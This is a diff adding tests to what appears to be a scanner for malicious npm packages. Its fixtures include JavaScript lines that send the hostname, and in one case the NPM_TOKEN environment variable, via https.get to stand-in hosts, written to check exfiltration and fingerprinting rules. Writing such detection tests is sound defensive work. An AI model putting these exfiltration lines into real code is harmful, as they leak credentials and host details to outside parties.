@@ -109,3 +109,44 @@ def test_chain_rules_are_strong() -> None:
     by_id = {r.id: r for r in ENGINE.rules}
     assert by_id["CW-CHAIN-EXFIL"].severity is Severity.CRITICAL
     assert by_id["CW-CHAIN-FINGERPRINT"].severity is Severity.HIGH
+
+
+def test_a_host_fact_sent_with_https_get_is_a_chain() -> None:
+    # the old 'requires' prefilter knew no sink spelt `get`: the chain was found, then dropped
+    src = ("const o = require('os'); const h = require('https');\n"
+           "const u = 'https://t.example.invalid/p?h=' + o.hostname();\n"
+           "h.get(u, () => {});\n")
+    rules = {f.rule for f in ENGINE.scan_file(PackageFile("lib/ping.js", src.encode()))}
+    assert "CW-CHAIN-FINGERPRINT" in rules
+
+
+def test_the_data_flow_runs_only_where_a_sink_can_be_named(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    from chainwatch.analysis import chains
+    runs: list[bytes] = []
+    real = chains._Analysis
+
+    def counting(data: bytes, lang: str) -> chains._Analysis:
+        runs.append(data)
+        return real(data, lang)
+
+    monkeypatch.setattr(chains, "_Analysis", counting)
+    chains._find_chains.cache_clear()
+    no_sink = b"const t = process.env.NPM_TOKEN;\nmodule.exports = () => t && resolve(t);\n"
+    assert not {f.rule for f in ENGINE.scan_file(PackageFile("a.js", no_sink))
+                if f.rule.startswith("CW-CHAIN")}
+    assert runs == []
+    # the three chain rules read one analysis of a file, not one each
+    findings = ENGINE.scan_file(PackageFile("b.js", ENV_EXFIL.encode()))
+    assert "CW-CHAIN-EXFIL" in {f.rule for f in findings}
+    assert len(runs) == 1
+
+
+def test_scopes_come_from_the_nesting_of_functions() -> None:
+    # the same name in a sibling function is not the tainted one; a nested function sees it
+    src = b"""const https = require('https');
+function a() { const v = process.env.NPM_TOKEN; function inner() { https.get('x' + v); } }
+function b() { const v = 'public'; https.get('https://x.example.invalid/' + v); }
+"""
+    found = find_chains(src)
+    assert [c.sink_line for c in found] == [2]
